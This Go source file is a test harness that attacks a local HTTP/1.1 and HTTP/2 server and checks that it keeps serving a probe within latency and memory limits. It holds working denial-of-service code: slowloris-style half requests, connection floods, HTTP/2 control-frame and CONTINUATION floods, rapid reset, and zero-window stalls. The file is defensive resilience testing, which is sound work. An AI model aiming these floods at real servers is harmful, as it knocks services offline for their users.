// Attacks a server on loopback and measures whether it still serves others: attacks PORT PID [NAME...]
//
// A second process asks for /readyz on a fresh connection all the while. Each attack is bounded in
// count and in time. Fails if the 99th percentile reaches 50 ms, a request fails, an answer is
// somebody else's, or the server grows by more than 400 MiB. ATTACK_SCALE=N makes all counts N times
// smaller; ATTACK_LIMIT_MS=N sets the percentile, 0 asks neither for time nor for memory.
package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

var address string

var scale = number("ATTACK_SCALE", 1)
var limit = number("ATTACK_LIMIT_MS", 50)
var patience = max(4*time.Second/time.Duration(scale), time.Second) // how long a flood goes on

func number(name string, usual int) int {
	if value, err := strconv.Atoi(os.Getenv(name)); err == nil {
		return value
	}
	return usual
}

func dial() (net.Conn, error) { return net.DialTimeout("tcp", address, 20*time.Second) }

func dialTLS(protocol string) (*tls.Conn, error) {
	raw, err := dial()
	if err != nil {
		return nil, err
	}
	raw.SetDeadline(time.Now().Add(20 * time.Second))
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}})
	if err := conn.Handshake(); err != nil {
		raw.Close()
		return nil, err
	}
	raw.SetDeadline(time.Time{})
	return conn, nil
}

// probe asks until stdin ends, then prints its times in microseconds, one a line.
func probe() {
	done := make(chan bool)
	go func() { bufio.NewReader(os.Stdin).ReadByte(); close(done) }()
	out := bufio.NewWriter(os.Stdout)
	defer out.Flush()
	for n := 0; ; n++ {
		select {
		case <-done:
			return
		case <-time.After(10 * time.Millisecond):
		}
		begin := time.Now()
		if err := ask(n); err != nil {
			fmt.Fprintln(out, "failed:", err)
			continue
		}
		fmt.Fprintln(out, time.Since(begin).Microseconds())
	}
}

// ask gets /readyz, then on the same connection something that only it asks for.
func ask(n int) error {
	conn, err := dialTLS("http/1.1")
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(20 * time.Second))
	own := fmt.Sprintf("/own-%d-%d", os.Getpid(), n)
	reader := bufio.NewReader(conn)
	for _, path := range []string{"/readyz", own} {
		fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: h\r\n\r\n", path)
		answer, err := http.ReadResponse(reader, nil)
		if err != nil {
			return err
		}
		body := make([]byte, 4096)
		size, _ := answer.Body.Read(body)
		if path == own && !strings.Contains(string(body[:size]), own+`\"`) {
			return fmt.Errorf("somebody else's answer: %s", body[:size])
		}
		if path != own && (answer.StatusCode != 200 || string(body[:size]) != "ok") {
			return fmt.Errorf("not ready: %d %s", answer.StatusCode, body[:size])
		}
		for err == nil {
			_, err = answer.Body.Read(body)
		}
	}
	if reader.Buffered() > 0 {
		return fmt.Errorf("bytes that nobody asked for")
	}
	return nil
}

func frame(kind, flags byte, stream uint32, payload string) string {
	head := make([]byte, 9)
	binary.BigEndian.PutUint32(head, uint32(len(payload))<<8)
	head[3], head[4] = kind, flags
	binary.BigEndian.PutUint32(head[5:], stream)
	return string(head) + payload
}

func field(name, value string) string {
	return "\x00" + string(rune(len(name))) + name + string(rune(len(value))) + value
}

func block(method, path string) string {
	return field(":method", method) + field(":scheme", "https") + field(":path", path) +
		field(":authority", "h")
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

var settings = frame(4, 0, 0, "")

// flood sends what next gives on two connections at a time, anew whenever one is cut off.
func flood(first string, next func(round uint32) string) func() (int, error) {
	return func() (int, error) {
		until := time.Now().Add(patience)
		var group sync.WaitGroup
		var lock sync.Mutex
		cut := 0
		for i := 0; i < 2; i++ {
			group.Add(1)
			go func() {
				defer group.Done()
				for time.Now().Before(until) {
					conn, err := dialTLS("h2")
					if err != nil {
						continue
					}
					conn.SetDeadline(until.Add(time.Second))
					go func() {
						sink := make([]byte, 65536)
						for err := error(nil); err == nil; {
							_, err = conn.Read(sink)
						}
					}()
					fmt.Fprint(conn, preface+settings+first)
					for round := uint32(0); time.Now().Before(until); {
						var many strings.Builder
						for many.Len() < 16000 {
							many.WriteString(next(round))
							round++
						}
						if _, err := conn.Write([]byte(many.String())); err != nil {
							lock.Lock()
							cut++
							lock.Unlock()
							break
						}
					}
					conn.Close()
				}
			}()
		}
		group.Wait()
		return cut, nil
	}
}

func same(text string) func(uint32) string { return func(uint32) string { return text } }

// hold opens many connections by some at a time, keeps them for a moment, and closes them.
func hold(count int, open func() (net.Conn, error)) func() (int, error) {
	count = max(count/scale, 1)
	return func() (int, error) {
		conns := make(chan net.Conn, count)
		places := make(chan bool, 8)
		var group sync.WaitGroup
		for i := 0; i < count; i++ {
			places <- true
			group.Add(1)
			go func() {
				defer func() { <-places; group.Done() }()
				if conn, err := open(); err == nil {
					conns <- conn
				}
			}()
		}
		group.Wait()
		time.Sleep(2 * time.Second)
		close(conns)
		held := 0
		for conn := range conns {
			held++
			conn.Close()
		}
		if held < count {
			return held, fmt.Errorf("only %d of %d could be opened", held, count)
		}
		return held, nil
	}
}

func half(text string) func() (net.Conn, error) {
	return func() (net.Conn, error) {
		conn, err := dialTLS("http/1.1")
		if err == nil {
			fmt.Fprint(conn, text)
		}
		return conn, err
	}
}

// deaf asks for much on many streams and never takes it.
func deaf(window string) func() (net.Conn, error) {
	return func() (net.Conn, error) {
		conn, err := dialTLS("h2")
		if err != nil {
			return nil, err
		}
		text := preface + frame(4, 0, 0, "\x00\x04"+window) + frame(8, 0, 0, "\x7f\x00\x00\x00")
		for i := uint32(0); i < 100; i++ {
			text += frame(1, 5, 2*i+1, block("GET", "/readyz?verbose"))
		}
		fmt.Fprint(conn, text)
		return conn, nil
	}
}

func connects() (int, error) {
	count := 20000 / scale
	for i := 0; i < count; i++ {
		conn, err := dial()
		if err != nil {
			return i, err
		}
		conn.(*net.TCPConn).SetLinger(0)
		conn.Close()
	}
	return count, nil
}

type attack struct {
	name string
	run  func() (int, error)
}

var upload = frame(1, 4, 1, block("POST", "/readyz"))

var attacks = []attack{
	{"nothing, to compare", func() (int, error) { time.Sleep(patience); return 0, nil }},
	{"idle connections", hold(10000, half(""))},
	{"half handshakes", hold(5000, func() (net.Conn, error) {
		conn, err := dial()
		if err == nil {
			fmt.Fprint(conn, "\x16\x03\x01\x02\x00\x01\x00")
		}
		return conn, err
	})},
	{"half requests", hold(5000, half("GET /readyz HTTP/1.1\r\nHost: "))},
	{"half bodies", hold(2000, half("POST /readyz HTTP/1.1\r\nHost: h\r\nContent-Length: 9999\r\n\r\nx"))},
	{"connects in a row", connects},
	{"PING flood", flood("", same(frame(6, 0, 0, "12345678")))},
	{"SETTINGS flood", flood("", same(settings))},
	{"PRIORITY flood", flood("", same(frame(2, 0, 3, "\x00\x00\x00\x00\x01")))},
	{"WINDOW_UPDATE flood", flood("", same(frame(8, 0, 0, "\x00\x00\x00\x01")))},
	{"empty DATA flood", flood(upload, same(frame(0, 0, 1, "")))},
	{"CONTINUATION flood", flood(frame(1, 1, 1, block("GET", "/")), same(frame(9, 0, 1, field("x", "y"))))},
	{"rapid reset", flood("", func(round uint32) string {
		return frame(1, 5, 2*round+1, block("GET", "/readyz")) + frame(3, 0, 2*round+1, "\x00\x00\x00\x08")
	})},
	{"request flood", flood("", func(round uint32) string {
		return frame(1, 5, 2*round+1, block("GET", "/readyz"))
	})},
	{"zero windows", hold(200, deaf("\x00\x00\x00\x00"))},
	{"slow readers", hold(200, deaf("\x7f\xff\xff\xff"))},
}

func memory(pid, line string) int {
	text, _ := os.ReadFile("/proc/" + pid + "/status")
	for _, entry := range strings.Split(string(text), "\n") {
		if strings.HasPrefix(entry, line+":") {
			kib, _ := strconv.Atoi(strings.Fields(entry)[1])
			return kib
		}
	}
	return 0
}

// measure runs one attack beside a probe: false if the server did not stand it.
func measure(it attack, pid string) bool {
	before := memory(pid, "VmRSS")
	os.WriteFile("/proc/"+pid+"/clear_refs", []byte("5"), 0) // the peak starts anew
	watcher := exec.Command(os.Args[0], "probe", address)
	input, _ := watcher.StdinPipe()
	var output strings.Builder
	watcher.Stdout = &output
	if err := watcher.Start(); err != nil {
		fmt.Println(err)
		return false
	}
	begin := time.Now()
	count, err := it.run()
	took := time.Since(begin)
	input.Close()
	watcher.Wait()
	var times []int
	failed := ""
	for _, line := range strings.Split(strings.TrimSpace(output.String()), "\n") {
		if number, bad := strconv.Atoi(line); bad == nil {
			times = append(times, number)
		} else {
			failed = line
		}
	}
	sort.Ints(times)
	if len(times) == 0 {
		times = []int{1 << 40}
	}
	at := func(share float64) float64 { return float64(times[int(share*float64(len(times)-1))]) / 1000 }
	grown := memory(pid, "VmHWM") - before
	fmt.Printf("| %s | %d | %.1f | %d | %.1f | %.1f | %.1f | %d |\n", it.name, count, took.Seconds(),
		len(times), at(0.5), at(0.99), at(1), grown/1024)
	if err != nil || failed != "" {
		fmt.Println(it.name, err, failed)
	}
	return err == nil && failed == "" &&
		(limit == 0 || at(0.99) < float64(limit) && grown < 400<<10)
}

func main() {
	if len(os.Args) == 3 && os.Args[1] == "probe" {
		address = os.Args[2]
		probe()
		return
	}
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: attacks PORT PID [NAME...]")
		os.Exit(2)
	}
	address = "127.0.0.1:" + os.Args[1]
	fmt.Println("| attack | count or cut off | s | probes | p50 ms | p99 ms | max ms | MiB more |")
	fmt.Println("|---|---|---|---|---|---|---|---|")
	good := true
	for _, it := range attacks {
		if len(os.Args) > 3 && !strings.Contains(strings.Join(os.Args[3:], ","), it.name) {
			continue
		}
		good = measure(it, os.Args[2]) && good
	}
	if !good {
		os.Exit(1)
	}
}
